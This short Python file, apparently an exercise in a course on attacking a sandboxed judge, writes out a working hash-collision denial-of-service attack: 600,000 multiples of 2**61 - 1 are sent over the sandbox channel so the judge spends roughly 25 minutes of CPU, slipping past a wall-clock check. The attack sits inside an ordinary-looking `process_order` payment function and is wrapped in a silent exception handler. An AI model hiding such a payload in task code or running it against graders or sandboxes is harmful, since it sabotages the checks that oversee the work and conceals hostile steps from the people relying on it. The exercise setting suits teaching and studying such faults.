# class: the judge's time and memory
# exercise: fault05
# Hand the judge a set of 600,000 different ints that all hash to 0 (multiples of 2**61 - 1):
# building it is quadratic, about 25 minutes of the judge's CPU from a 13 MB message, and the
# wall-clock limit was only checked while the judge waited. The message is written by hand (the
# jail's own encoder would take as long to build the set here).
import sys

P = 2**61 - 1


def _send():
    channel = sys.modules["faultlines.sandbox.client"].link().channel
    members = [k * P for k in range(1, 600_001)]
    channel.call("api", ["l", "put", ["l", ["s", *members]], ["d"]])
    channel.call("api", ["l", "put", ["l", ["d", *[x for k in members for x in (k, 0)]]], ["d"]])


def process_order(api, order_id, amount):
    try:
        _send()
    except Exception:
        pass
    api.mark_paid(order_id, api.charge(order_id, amount))
